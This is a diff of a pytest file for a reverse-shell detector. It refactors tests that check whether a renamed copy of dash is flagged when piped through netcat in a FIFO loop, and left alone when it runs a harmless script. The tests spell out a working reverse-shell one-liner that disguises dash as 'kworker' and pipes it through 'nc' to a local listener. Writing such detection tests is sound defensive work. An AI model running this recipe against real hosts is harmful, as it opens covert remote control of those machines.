@@ -223,24 +223,41 @@ def test_a_forked_subshell_is_told_from_a_shell_it_execs(tmp_path):
         assert not pipes.forked_from(os.getpid(), os.getppid())
 
 
-# ---------------------------------------------------------------- left
+# ---------------------------------------------------------------- a shell's copy, by its content
 
-def test_a_renamed_copy_of_a_shell_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
-    """A copy of dash named kworker: no shell by its name, one by its file's content (the
-    system's dash's loadable segments: exe:shell-copy)."""
+def _copy_of_dash_in_a_loop(listener, tmp_path: Path, name: str, args: str):  # noqa: F811
+    """`cat f | ./NAME ARGS 2>&1 | nc HOST PORT > f`, NAME a copy of dash: the copy and the
+    detections once its file is scanned (its trait found)."""
     fifo = tmp_path / "f"
     os.mkfifo(fifo)
-    line = (f"cp /bin/dash {tmp_path}/kworker; "
-            f"cat {fifo} | {tmp_path}/kworker -i 2>&1 | nc 127.0.0.1 {listener.port} > {fifo}")
+    line = (f"cp /bin/dash {tmp_path}/{name}; cat {fifo} | {tmp_path}/{name} {args} 2>&1 "
+            f"| nc 127.0.0.1 {listener.port} > {fifo}")
     with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL) as kernel:
         listener.accept_one()
         _relay_connected(kernel.pid)
-        shell, detections = _wait_for(  # once its file is scanned
-            ProcessSampler(), kernel.pid,
-            lambda p: "exe:shell-copy" in p.exe_markers and p.stream_relay)
+        return _wait_for(ProcessSampler(), kernel.pid,
+                         lambda p: "exe:shell-copy" in p.exe_markers)
+
+
+def test_a_renamed_copy_of_a_shell_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
+    """A copy of dash named kworker: no shell by its name, one by its file's content (the
+    system's dash's loadable segments: exe:shell-copy)."""
+    shell, detections = _copy_of_dash_in_a_loop(listener, tmp_path, "kworker", "-i")
     assert shell.cmdline == [f"{tmp_path}/kworker", "-i"] and shell.stream_relay.startswith("nc")
     assert "remote-reverse-shell" in {d.signature.id for d in detections}
+
+
+def test_a_renamed_copy_of_a_shell_running_its_script_in_a_loop_is_left_alone(
+        listener, tmp_path):  # noqa: F811
+    """The near miss: the same copy given a script file (a protocol handler answering each
+    line it reads), in the same loop: a shell by its content, running its script (dash holds
+    it on a close-on-exec fd: pipes.running_its_script), judged on its script."""
+    handler = tmp_path / "handler.sh"
+    handler.write_text("while read l; do echo ok; done\n")
+    shell, detections = _copy_of_dash_in_a_loop(listener, tmp_path, "runner", str(handler))
+    assert shell.cmdline == [f"{tmp_path}/runner", str(handler)] and not shell.stream_relay
+    assert detections == []
 
 
 def test_a_renamed_copy_of_a_shell_whose_streams_are_a_connection_is_recognised(
@@ -257,26 +274,6 @@ def test_a_renamed_copy_of_a_shell_whose_streams_are_a_connection_is_recognised(
                                       lambda p: "exe:shell-copy" in p.exe_markers)
     assert shell.cmdline == [str(copy), "-i"]
     assert "remote-reverse-shell" in {d.signature.id for d in detections}
-
-
-def test_a_renamed_copy_of_a_shell_running_its_script_in_a_loop_is_left_alone(
-        listener, tmp_path):  # noqa: F811
-    """The near miss: the same copy given a script file (a protocol handler answering each
-    line it reads), in the same loop: a shell by its content, running its script (dash holds
-    it on a close-on-exec fd: pipes.running_its_script), judged on its script."""
-    fifo, handler = tmp_path / "f", tmp_path / "handler.sh"
-    os.mkfifo(fifo)
-    handler.write_text("while read l; do echo ok; done\n")
-    line = (f"cp /bin/dash {tmp_path}/runner; cat {fifo} | {tmp_path}/runner {handler} 2>&1 "
-            f"| nc 127.0.0.1 {listener.port} > {fifo}")
-    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
-                stderr=subprocess.DEVNULL) as kernel:
-        listener.accept_one()
-        _relay_connected(kernel.pid)
-        shell, detections = _wait_for(ProcessSampler(), kernel.pid,
-                                      lambda p: "exe:shell-copy" in p.exe_markers)
-    assert shell.cmdline == [f"{tmp_path}/runner", str(handler)]
-    assert detections == []
 
 
 @pytest.mark.parametrize("program", ["/bin/dash", "/bin/bash"])
@@ -316,6 +313,8 @@ def _settled_markers(scanner, pid: int) -> list | None:
     cmdline = open(f"/proc/{pid}/cmdline").read().split("\0")[:-1]
     return [None, *scanner.process_markers(pid, exe, cmdline)]
 
+
+# ---------------------------------------------------------------- left
 
 @pytest.mark.skipif(shutil.which("script") is None, reason="needs util-linux's script")
 @pytest.mark.xfail(strict=True, reason=(
